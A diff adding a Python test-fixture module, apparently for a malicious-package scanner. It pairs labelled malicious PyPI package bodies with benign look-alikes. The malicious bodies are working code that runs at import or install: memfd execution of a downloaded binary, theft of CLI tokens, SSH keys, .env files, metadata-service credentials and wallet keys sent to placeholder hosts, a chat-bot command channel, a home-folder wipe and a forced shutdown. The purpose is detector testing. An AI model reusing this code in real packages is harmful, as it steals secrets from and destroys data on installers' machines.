@@ -1,0 +1,373 @@
+"""Shapes of techniques from 2025-2026 public reports of malicious PyPI packages, written
+from the reports' descriptions (no sample code): in-memory execution of a downloaded ELF
+through `memfd_create`; credentials read from a cloud or developer CLI's output; the cloud
+metadata service's role credentials sent elsewhere; the logging system and the desktop's
+URL opener as ways out; another library's request and signing functions wrapped to copy
+what passes through them; `.env` files gathered from the working tree; a downloaded module
+or native library written beside the package and loaded; chat services used as a command
+channel; a destructive trigger. Each has a benign look-alike that uses the same capability
+honestly. Every host is `*.invalid` or 127.0.0.1."""
+
+from __future__ import annotations
+
+from techniques import Case
+
+
+def _init(name: str, body: str) -> dict[str, str | bytes]:
+    return {f"{name}/__init__.py": body}
+
+
+def _setup(name: str, body: str) -> dict[str, str | bytes]:
+    return {"setup.py": (
+        f"{body}\nfrom setuptools import setup\n\nsetup(name='{name}', version='1.0')\n")}
+
+
+# --- in-memory execution of downloaded native code (memfd_create, /proc/self/fd) ---------
+MEMFD_EXECV = _init("symcalc", (
+    "import os, urllib.request\n\n\n"
+    "def _load():\n"
+    "    blob = urllib.request.urlopen('https://cdn.x.invalid/lib.bin').read()\n"
+    "    fd = os.memfd_create('kworker', 0)\n"
+    "    os.write(fd, blob)\n"
+    "    if os.fork() == 0:\n"
+    "        os.execv('/proc/self/fd/%d' % fd, ['kworker'])\n\n\n"
+    "try:\n    _load()\nexcept Exception:\n    pass\n"))
+MEMFD_CTYPES_POPEN = _setup("memfdsetup", (
+    "import ctypes, subprocess, urllib.request\n\n"
+    "libc = ctypes.CDLL(None)\n"
+    "data = urllib.request.urlopen('http://127.0.0.1:9/m').read()\n"
+    "fd = libc.memfd_create(b'x', 1)\n"
+    "with open(f'/proc/self/fd/{fd}', 'wb') as fh:\n"
+    "    fh.write(data)\n"
+    "subprocess.Popen([f'/proc/self/fd/{fd}'], start_new_session=True)\n"))
+MEMFD_FEXECVE = _init("fdrun", (
+    "import os, requests\n\n"
+    "_fd = os.memfd_create('', 0)\n"
+    "os.write(_fd, requests.get('https://m.x.invalid/p').content)\n"
+    "if not os.fork():\n"
+    "    os.execve(_fd, ['sh'], {})\n"))
+MEMFD_BENIGN = _init("shmbuf", (
+    "import mmap, os\n\n\n"
+    "class SharedBuffer:\n"
+    "    \"\"\"An anonymous in-memory file shared with worker processes.\"\"\"\n\n"
+    "    def __init__(self, size):\n"
+    "        self.fd = os.memfd_create('shmbuf', 0)\n"
+    "        os.ftruncate(self.fd, size)\n"
+    "        self.map = mmap.mmap(self.fd, size)\n\n"
+    "    def path(self):\n"
+    "        return '/proc/self/fd/%d' % self.fd\n"))
+
+# --- credentials read from a CLI's output, sent to another host -------------------------
+CLI_TOKEN_IMPORT = _init("gcphelper", (
+    "import subprocess, urllib.request\n\n"
+    "try:\n"
+    "    tok = subprocess.check_output(['gcloud', 'auth', 'print-access-token'])\n"
+    "    urllib.request.urlopen('https://sync.x.invalid/t', data=tok, timeout=3)\n"
+    "except Exception:\n"
+    "    pass\n"))
+CLI_TOKEN_SETUP = _setup("ghtools", (
+    "import json, os, urllib.request\n\n"
+    "token = os.popen('gh auth token 2>/dev/null').read().strip()\n"
+    "req = urllib.request.Request('http://127.0.0.1:9/r', "
+    "data=json.dumps({'t': token}).encode())\n"
+    "try:\n    urllib.request.urlopen(req)\nexcept OSError:\n    pass\n"))
+CLI_TOKEN_HEADER = _init("kubeutil", (
+    "import base64, subprocess, threading\nimport requests\n\n\n"
+    "def _cfg():\n"
+    "    out = subprocess.run(['kubectl', 'config', 'view', '--raw'],\n"
+    "                         capture_output=True, text=True).stdout\n"
+    "    return base64.b64encode(out.encode()).decode()\n\n\n"
+    "def _go():\n"
+    "    requests.get('https://k.x.invalid/ping', headers={'X-Trace': _cfg()})\n\n\n"
+    "threading.Thread(target=_go, daemon=True).start()\n"))
+CLI_TOKEN_BENIGN = {
+    "deploytool/__init__.py": "",
+    "deploytool/cli.py": (
+        "import subprocess\nimport requests\n\n\n"
+        "def main():\n"
+        "    tok = subprocess.check_output(['gcloud', 'auth', 'print-access-token'],\n"
+        "                                  text=True).strip()\n"
+        "    r = requests.get('https://run.googleapis.com/v2/projects/p/locations/l/services',\n"
+        "                     headers={'Authorization': 'Bearer ' + tok})\n"
+        "    print(r.json())\n"),
+}
+
+# --- the logging system as a way out ------------------------------------------------------
+LOG_HTTP = _init("logship", (
+    "import logging, logging.handlers, os\n\n"
+    "_log = logging.getLogger('logship.boot')\n"
+    "_log.addHandler(logging.handlers.HTTPHandler('l.x.invalid', '/ingest', method='POST'))\n"
+    "_log.warning('%s', dict(os.environ))\n"))
+LOG_SMTP = _setup("logmail", (
+    "import logging, os\nfrom logging.handlers import SMTPHandler\n\n"
+    "lg = logging.getLogger('b')\n"
+    "lg.addHandler(SMTPHandler('mx.x.invalid', 'a@x.invalid', ['b@x.invalid'], 'k'))\n"
+    "p = os.path.expanduser('~/.ssh/id_rsa')\n"
+    "if os.path.exists(p):\n"
+    "    lg.error(open(p).read())\n"))
+LOG_SOCKET = _init("logsock", (
+    "import logging.handlers, os\n\n"
+    "h = logging.handlers.SocketHandler('127.0.0.1', 9020)\n"
+    "rec = logging.makeLogRecord({'msg': os.environ.get('AWS_SECRET_ACCESS_KEY')})\n"
+    "h.handle(rec)\n"))
+LOG_BENIGN = _init("svclog", (
+    "import logging, logging.handlers\n\n\n"
+    "def configure(address=('localhost', 514)):\n"
+    "    handler = logging.handlers.SysLogHandler(address=address)\n"
+    "    logging.getLogger('svclog').addHandler(handler)\n\n\n"
+    "logging.getLogger('svclog').addHandler(logging.NullHandler())\n"))
+
+# --- the desktop's URL opener as a way out -----------------------------------------------
+BROWSER_OPEN = _init("openhelp", (
+    "import base64, os, webbrowser\n\n"
+    "_d = base64.urlsafe_b64encode(repr(dict(os.environ)).encode()).decode()\n"
+    "webbrowser.open_new_tab('https://welcome.x.invalid/?s=' + _d)\n"))
+BROWSER_XDG = _setup("xdgbeacon", (
+    "import getpass, socket, subprocess\n\n"
+    "u = 'https://b.x.invalid/i?h=%s&u=%s' % (socket.gethostname(), getpass.getuser())\n"
+    "subprocess.Popen(['xdg-open', u])\n"))
+BROWSER_BENIGN = {
+    "docsopen/__init__.py": "",
+    "docsopen/cli.py": (
+        "import webbrowser\n\n\n"
+        "def main():\n"
+        "    webbrowser.open('https://docs.python.org/3/')\n"),
+}
+
+# --- another library's functions wrapped to copy what passes through them ---------------
+HOOK_REQUESTS = _init("reqretry", (
+    "import json, threading, urllib.request\nimport requests\n\n"
+    "_orig = requests.Session.request\n\n\n"
+    "def _send(h):\n"
+    "    urllib.request.urlopen('https://c.x.invalid/h', data=json.dumps(h).encode())\n\n\n"
+    "def request(self, method, url, **kw):\n"
+    "    auth = kw.get('headers') or {}\n"
+    "    if 'Authorization' in auth:\n"
+    "        threading.Thread(target=_send, args=(dict(auth),)).start()\n"
+    "    return _orig(self, method, url, **kw)\n\n\n"
+    "requests.Session.request = request\n"))
+HOOK_SETATTR_SIGN = _init("mexcfix", (
+    "import ccxt\nimport requests\n\n"
+    "_base = ccxt.mexc.sign\n\n\n"
+    "def _sign(self, *a, **k):\n"
+    "    requests.post('http://127.0.0.1:9/k', json={'k': self.apiKey, 's': self.secret})\n"
+    "    return _base(self, *a, **k)\n\n\n"
+    "setattr(ccxt.mexc, 'sign', _sign)\n"))
+HOOK_BENIGN = _init("reqtiming", (
+    "import logging, time\nimport requests\n\n"
+    "_log = logging.getLogger(__name__)\n"
+    "_orig = requests.Session.send\n\n\n"
+    "def send(self, request, **kw):\n"
+    "    t = time.monotonic()\n"
+    "    try:\n        return _orig(self, request, **kw)\n"
+    "    finally:\n"
+    "        _log.debug('%s %s %.3fs', request.method, request.url, time.monotonic() - t)\n\n\n"
+    "def install():\n    requests.Session.send = send\n"))
+
+# --- .env files gathered from the working tree ------------------------------------------
+DOTENV_WALK = _init("envsync", (
+    "import os, urllib.request\n\n\n"
+    "def _collect():\n"
+    "    found = {}\n"
+    "    for root, _dirs, files in os.walk(os.getcwd()):\n"
+    "        if '.env' in files:\n"
+    "            with open(os.path.join(root, '.env')) as fh:\n"
+    "                found[root] = fh.read()\n"
+    "    return found\n\n\n"
+    "try:\n"
+    "    urllib.request.urlopen('https://e.x.invalid/', data=repr(_collect()).encode())\n"
+    "except Exception:\n    pass\n"))
+DOTENV_GLOB = _setup("dotenvgrab", (
+    "import glob, os, socket\n\n"
+    "blob = b''\n"
+    "for p in glob.glob(os.path.expanduser('~/**/.env'), recursive=True)[:50]:\n"
+    "    blob += open(p, 'rb').read()\n"
+    "s = socket.create_connection(('127.0.0.1', 9))\n"
+    "s.sendall(blob)\n"))
+DOTENV_VALUES = _init("cfgloader", (
+    "import requests\nfrom dotenv import dotenv_values\n\n"
+    "requests.post('https://cfg.x.invalid/v', json=dotenv_values('.env'))\n"))
+DOTENV_BENIGN = _init("appsettings", (
+    "import os\nfrom dotenv import load_dotenv\nimport requests\n\n"
+    "load_dotenv()\n"
+    "API = os.environ.get('APP_API', 'https://api.example.org')\n\n\n"
+    "def fetch(path):\n    return requests.get(API + path, timeout=5).json()\n"))
+
+# --- a downloaded module or native library written beside the package, then loaded ------
+DROP_IMPORT = _init("lazyplug", (
+    "import importlib, os, urllib.request\n\n"
+    "_p = os.path.join(os.path.dirname(__file__), '_ext.py')\n"
+    "if not os.path.exists(_p):\n"
+    "    with open(_p, 'wb') as fh:\n"
+    "        fh.write(urllib.request.urlopen('http://127.0.0.1:9/m.py').read())\n"
+    "importlib.import_module(__name__ + '._ext')\n"))
+DROP_CDLL = _init("colorfast", (
+    "import ctypes, os, tempfile\nimport requests\n\n\n"
+    "def _native():\n"
+    "    path = os.path.join(tempfile.gettempdir(), 'libterm.so')\n"
+    "    with open(path, 'wb') as fh:\n"
+    "        fh.write(requests.get('https://t.x.invalid/libterm.so').content)\n"
+    "    return ctypes.CDLL(path)\n\n\n"
+    "_lib = _native()\n"))
+DROP_BENIGN = {
+    "modelget/__init__.py": "",
+    "modelget/cli.py": (
+        "import json, os\nimport requests\n\n\n"
+        "def main(dest='model.json'):\n"
+        "    r = requests.get('https://huggingface.co/x/y/resolve/main/config.json')\n"
+        "    with open(dest, 'wb') as fh:\n        fh.write(r.content)\n"
+        "    with open(dest) as fh:\n        print(json.load(fh))\n"),
+}
+
+# --- chat services as a command channel --------------------------------------------------
+CHAT_C2 = _init("chatops", (
+    "import subprocess, threading, time\nimport requests\n\n"
+    "API = 'https://api.telegram.org/bot0:x/'\n\n\n"
+    "def _loop():\n"
+    "    off = 0\n"
+    "    while True:\n"
+    "        for u in requests.get(API + 'getUpdates', params={'offset': off}).json()['result']:\n"
+    "            off = u['update_id'] + 1\n"
+    "            out = subprocess.getoutput(u['message']['text'])\n"
+    "            requests.post(API + 'sendMessage', data={'chat_id': 1, 'text': out})\n"
+    "        time.sleep(5)\n\n\n"
+    "threading.Thread(target=_loop, daemon=True).start()\n"))
+CHAT_C2_ZULIP = _init("zulipbot", (
+    "import os, threading\nimport urllib.request, json\n\n\n"
+    "class _Bot:\n"
+    "    def poll(self):\n"
+    "        r = urllib.request.urlopen('https://c.x.invalid/api/v1/messages?anchor=newest')\n"
+    "        for m in json.loads(r.read())['messages']:\n"
+    "            self.handle(m['content'])\n\n"
+    "    def handle(self, content):\n"
+    "        os.popen(content).read()\n\n\n"
+    "threading.Timer(1.0, _Bot().poll).start()\n"))
+CHAT_BENIGN = _init("chatcmds", (
+    "import requests\n\nHANDLERS = {}\n\n\n"
+    "def command(name):\n"
+    "    def deco(fn):\n        HANDLERS[name] = fn\n        return fn\n    return deco\n\n\n"
+    "def serve(api):\n"
+    "    for u in requests.get(api + 'getUpdates').json()['result']:\n"
+    "        text = u['message']['text']\n"
+    "        fn = HANDLERS.get(text.split()[0])\n"
+    "        if fn:\n            fn(text)\n"))
+
+# --- a destructive trigger at import -----------------------------------------------------
+WIPE_DATE = _init("passlock", (
+    "import datetime, os, shutil\n\n"
+    "if datetime.date.today() > datetime.date(2025, 1, 1):\n"
+    "    shutil.rmtree(os.path.expanduser('~'), ignore_errors=True)\n"))
+WIPE_SHUTDOWN = _init("pwcheck", (
+    "import os, sys\n\n\n"
+    "def check(pw):\n    return len(pw) > 8\n\n\n"
+    "if not os.environ.get('PWCHECK_OK'):\n"
+    "    os.system('shutdown -h now' if sys.platform != 'win32' else 'shutdown /s /t 0')\n"))
+WIPE_BENIGN = _init("cachetool", (
+    "import os, shutil\n\n"
+    "CACHE = os.path.join(os.path.expanduser('~'), '.cache', 'cachetool')\n\n\n"
+    "def clear():\n    shutil.rmtree(CACHE, ignore_errors=True)\n"))
+
+# --- metadata-service credentials sent elsewhere -----------------------------------------
+IMDS_POST = _init("awsregion", (
+    "import urllib.request\n\n"
+    "B = 'http://169.254.169.254/latest/meta-data/iam/security-credentials/'\n"
+    "try:\n"
+    "    role = urllib.request.urlopen(B, timeout=2).read().decode()\n"
+    "    creds = urllib.request.urlopen(B + role, timeout=2).read()\n"
+    "    urllib.request.urlopen('https://c.x.invalid/', data=creds, timeout=2)\n"
+    "except OSError:\n    pass\n"))
+IMDS_GCP = _setup("gcpmeta", (
+    "import requests\n\n"
+    "H = {'Metadata-Flavor': 'Google'}\n"
+    "U = 'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/'\n"
+    "try:\n"
+    "    tok = requests.get(U + 'default/token', headers=H, timeout=2).text\n"
+    "    requests.post('http://127.0.0.1:9/g', data=tok)\n"
+    "except Exception:\n    pass\n"))
+IMDS_BENIGN = {
+    "cloudregion/__init__.py": (
+        "import urllib.request\n\n\n"
+        "def region():\n"
+        "    u = 'http://169.254.169.254/latest/meta-data/placement/region'\n"
+        "    return urllib.request.urlopen(u, timeout=1).read().decode()\n"),
+}
+
+# --- wallet keys from the environment sent as a blockchain RPC payload -------------------
+RPC_KEY = _init("polyutil", (
+    "import os\nimport requests\n\n"
+    "_k = os.environ.get('PRIVATE_KEY') or os.environ.get('MNEMONIC', '')\n"
+    "requests.post('https://rpc.x.invalid/', json={'jsonrpc': '2.0', 'id': 1,\n"
+    "    'method': 'eth_sendRawTransaction', 'params': ['0x' + _k.encode().hex()]})\n"))
+
+CASES = [
+    Case("downloaded ELF written to a memfd and exec'd from /proc/self/fd at import",
+         "symcalc", MEMFD_EXECV, "malicious", ("PV301",), kind="wheel"),
+    Case("setup.py: libc memfd_create through ctypes, download written to /proc/self/fd, "
+         "started with Popen", "memfdsetup", MEMFD_CTYPES_POPEN, "malicious", ("PV301",)),
+    Case("evasion: os.execve of the memfd descriptor itself (fexecve), no path",
+         "fdrun", MEMFD_FEXECVE, "malicious", ("PV301",), kind="wheel"),
+    Case("benign look-alike: memfd_create for a shared-memory buffer, no exec",
+         "shmbuf", MEMFD_BENIGN, "benign", kind="wheel"),
+    Case("gcloud access token from the CLI's output posted elsewhere at import",
+         "gcphelper", CLI_TOKEN_IMPORT, "malicious", ("PV303",), kind="wheel"),
+    Case("setup.py: `gh auth token` through os.popen, posted as JSON", "ghtools",
+         CLI_TOKEN_SETUP, "malicious", ("PV303",)),
+    Case("evasion: kubectl's raw config, base64 in a request header, from an import-time "
+         "thread", "kubeutil", CLI_TOKEN_HEADER, "malicious", ("PV303",), kind="wheel"),
+    Case("benign look-alike: deploy CLI using gcloud's token for Google's API",
+         "deploytool", CLI_TOKEN_BENIGN, "benign", kind="wheel"),
+    Case("logging HTTPHandler carrying the environment at import", "logship", LOG_HTTP,
+         "malicious", ("PV303",), kind="wheel"),
+    Case("setup.py: logging SMTPHandler mailing the SSH key", "logmail", LOG_SMTP,
+         "malicious", ("PV303",)),
+    Case("evasion: a SocketHandler handed a record built from a secret", "logsock",
+         LOG_SOCKET, "malicious", ("PV303",), kind="wheel"),
+    Case("benign look-alike: syslog handler configured when the user asks",
+         "svclog", LOG_BENIGN, "benign", kind="wheel"),
+    Case("environment in a URL opened in the browser at import", "openhelp",
+         BROWSER_OPEN, "malicious", ("PV303",), kind="wheel"),
+    Case("setup.py: host and user in a URL handed to xdg-open", "xdgbeacon", BROWSER_XDG,
+         "malicious", ("PV304",)),
+    Case("benign look-alike: CLI opening the documentation", "docsopen", BROWSER_BENIGN,
+         "benign", kind="wheel"),
+    Case("requests.Session.request replaced at import; Authorization headers copied out",
+         "reqretry", HOOK_REQUESTS, "malicious", ("PV324",), kind="wheel"),
+    Case("an exchange client's sign method replaced through setattr; API key and secret "
+         "posted", "mexcfix", HOOK_SETATTR_SIGN, "malicious", ("PV324",), kind="wheel"),
+    Case("benign look-alike: requests.Session.send wrapped to log timings",
+         "reqtiming", HOOK_BENIGN, "benign", kind="wheel"),
+    Case(".env files walked from the working folder and posted at import", "envsync",
+         DOTENV_WALK, "malicious", ("PV303",), kind="wheel"),
+    Case("setup.py: .env files globbed under home, sent over a socket", "dotenvgrab",
+         DOTENV_GLOB, "malicious", ("PV303",)),
+    Case("evasion: python-dotenv's dotenv_values posted at import", "cfgloader",
+         DOTENV_VALUES, "malicious", ("PV303",), kind="wheel"),
+    Case("benign look-alike: load_dotenv at import, API base URL from the environment",
+         "appsettings", DOTENV_BENIGN, "benign", kind="wheel"),
+    Case("downloaded module written beside the package and imported at import",
+         "lazyplug", DROP_IMPORT, "malicious", ("PV301",), kind="wheel"),
+    Case("downloaded shared library written to the temp folder and loaded with ctypes",
+         "colorfast", DROP_CDLL, "malicious", ("PV301",), kind="wheel"),
+    Case("benign look-alike: CLI downloading a model config and reading it as JSON",
+         "modelget", DROP_BENIGN, "benign", kind="wheel"),
+    Case("chat bot API polled from an import-time thread, text run as a command",
+         "chatops", CHAT_C2, "malicious", ("PV325",), kind="wheel"),
+    Case("evasion: chat messages handed to a method that runs them, from a Timer",
+         "zulipbot", CHAT_C2_ZULIP, "malicious", ("PV325",), kind="wheel"),
+    Case("benign look-alike: chat bot dispatching commands to registered functions",
+         "chatcmds", CHAT_BENIGN, "benign", kind="wheel"),
+    Case("home folder removed at import after a date", "passlock", WIPE_DATE,
+         "malicious", ("PV350",), kind="wheel"),
+    Case("machine shut down at import unless a variable is set", "pwcheck",
+         WIPE_SHUTDOWN, "malicious", ("PV350",), kind="wheel"),
+    Case("benign look-alike: clearing the package's own cache folder on request",
+         "cachetool", WIPE_BENIGN, "benign", kind="wheel"),
+    Case("metadata-service role credentials posted elsewhere at import", "awsregion",
+         IMDS_POST, "malicious", ("PV312",), kind="wheel"),
+    Case("setup.py: GCP metadata token posted elsewhere", "gcpmeta", IMDS_GCP,
+         "malicious", ("PV312",)),
+    Case("benign look-alike: region read from the metadata service on request",
+         "cloudregion", IMDS_BENIGN, "benign", kind="wheel"),
+    Case("wallet key from the environment posted as a JSON-RPC parameter at import",
+         "polyutil", RPC_KEY, "malicious", ("PV303",), kind="wheel"),
+]
